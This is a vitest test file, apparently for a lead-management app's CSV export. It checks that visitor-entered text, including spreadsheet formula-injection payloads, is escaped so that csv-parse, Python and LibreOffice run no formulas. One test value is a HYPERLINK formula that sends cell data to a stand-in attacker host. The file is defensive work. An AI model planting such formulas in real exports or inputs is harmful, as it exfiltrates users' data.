// The bytes of an export as other programs read them: a parser of JavaScript always, Python's and LibreOffice
// where they are installed (else their tests are skipped by name).
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, delimiter as pathDelimiter } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, describe, expect, test } from 'vitest'
import { csvColumns, readsOf } from '../../src/leads/csv-columns.ts'
import { csvRows } from '../../src/leads/csv-rows.ts'
import { localTimes } from '../../src/leads/csv-time.ts'
import type { ExportOptions } from '../../src/leads/export-options.ts'

const CORPUS = join(import.meta.dirname, '../../../shared/corpora/security/csv')
const PHONE = '+14155552671'
const CAPTURED = Date.UTC(2026, 2, 1, 12, 30)
const PATIENCE_MS = 120_000
const folder = mkdtempSync(join(tmpdir(), 'fineguide-csv-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** What visitors may write; formulas of every kind, where the corpus is there many more. */
const TEXTS = [
  'Ana López',
  'say "hi", you; ok',
  'two\nlines',
  'two\r\nlines, "quoted"',
  'tab\there',
  '王小明 😀 مرحبا é',
  '=1+1',
  '\0=1+1',
  '\0\0 @SUM(1,2)',
  '\u200b=1+1',
  '\t=1+1',
  '\r=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  ...(existsSync(CORPUS)
    ? [
        ...(JSON.parse(readFileSync(join(CORPUS, 'own-formula-cells.json'), 'utf8')) as string[]),
        ...readFileSync(join(CORPUS, 'payloadbox-csv-payload.txt'), 'utf8').split('\n'),
      ]
    : []),
].filter((text) => text !== '' && text !== PHONE)

type Kind = Pick<ExportOptions, 'preset' | 'delimiter'>
const KINDS: Kind[] = [
  { preset: 'excel', delimiter: ',' },
  { preset: 'excel', delimiter: ';' },
  { preset: 'plain', delimiter: ',' },
]

describe.each(KINDS)('$preset with $delimiter', (kind) => {
  const file = join(folder, `${kind.preset}-${kind.delimiter.charCodeAt(0)}.csv`)
  writeFileSync(file, exportOf(kind))

  test('csv-parse reads every cell, text behind an apostrophe where it could run', () => {
    const options = { delimiter: kind.delimiter, bom: kind.preset === 'excel' }
    expectCells(parse(readFileSync(file), options) as string[][])
  })

  test.skipIf(!isInstalled('python3'))('python3: csv reads the same', () => {
    expectCells(readByPython(file, kind.delimiter))
  })

  test.skipIf(!isInstalled('soffice'))(
    'LibreOffice runs nothing, keeps every text, and the phone is a number it can call',
    { timeout: PATIENCE_MS },
    () => {
      expect(convert(file, kind.delimiter, 'fods')).not.toContain('table:formula')
      const rows = parse(convert(file, kind.delimiter, 'csv'), { bom: true }) as string[][]
      expectCells(rows, asShown)
    },
  )
})

/** As csv.ts makes it of the rows of a page. */
function exportOf({ preset, delimiter }: Kind): Buffer {
  const columns = csvColumns(preset, ['id', 'name', 'phone', 'captured', 'notes', 'company'])
  const context = { time: localTimes('UTC'), agentName: (id: string) => id }
  const { head, lines } = csvRows(columns, { preset, delimiter }, context)
  const rows = TEXTS.map((text, i) => {
    const lead: Record<string, unknown> = { id: `lead_${i}`, name: text, phone: PHONE, notes: text }
    return [CAPTURED, null, ...readsOf(columns).map((column) => lead[column] ?? null)]
  })
  return Buffer.concat([head(), lines(rows)])
}

function expectCells(rows: string[][], shown: (text: string) => string = (text) => text): void {
  const [header = [], ...leads] = rows
  expect(header.map((label) => label.toLowerCase().replace('lead id', 'id'))).toEqual([
    'id',
    'name',
    'phone',
    'captured',
    'notes',
    'company',
  ])
  expect(leads).toHaveLength(TEXTS.length)
  for (const [i, [id, name = '', phone, captured, notes, company]] of leads.entries()) {
    const text = shown(TEXTS[i] ?? '')
    expect([text, `'${text}`]).toContain(name)
    expect(/^[\s\p{Cc}\p{Cf}]*[=+\-@]/u.test(name)).toBe(false)
    expect([id, captured, company]).toEqual([`lead_${i}`, '2026-03-01 12:30:00', ''])
    expect([shown(PHONE), notes]).toEqual([phone, name])
  }
}

function readByPython(file: string, delimiter: Kind['delimiter']): string[][] {
  const program =
    'import csv,json,sys; print(json.dumps(list(csv.reader(' +
    "open(sys.argv[1],encoding='utf-8-sig',newline=''),delimiter=sys.argv[2],strict=True))))"
  return JSON.parse(execFileSync('python3', ['-c', program, file, delimiter], { encoding: 'utf8' }))
}

/** A cell of LibreOffice has line feeds only and no NUL; a phone is the number without its plus. */
function asShown(text: string): string {
  if (text === PHONE) return PHONE.slice(1)
  return text.replaceAll('\0', '').replace(/\r\n?/g, '\n')
}

/** Opened with its delimiter, as UTF-8; a profile of its own, so that an open LibreOffice is no matter. */
function convert(file: string, delimiter: Kind['delimiter'], to: 'fods' | 'csv'): string {
  const out = join(folder, `${to}-${delimiter.charCodeAt(0)}`)
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      '--headless',
      `--infilter=CSV:${delimiter.charCodeAt(0)},34,76,1`,
      '--convert-to',
      to === 'csv' ? 'csv:Text - txt - csv (StarCalc):44,34,76,1' : to,
      '--outdir',
      out,
      file,
    ],
    { stdio: 'ignore' },
  )
  return readFileSync(join(out, file.slice(folder.length + 1).replace(/csv$/, to)), 'utf8')
}

function isInstalled(program: string): boolean {
  return (process.env.PATH ?? '')
    .split(pathDelimiter)
    .some((place) => place !== '' && existsSync(join(place, program)))
}
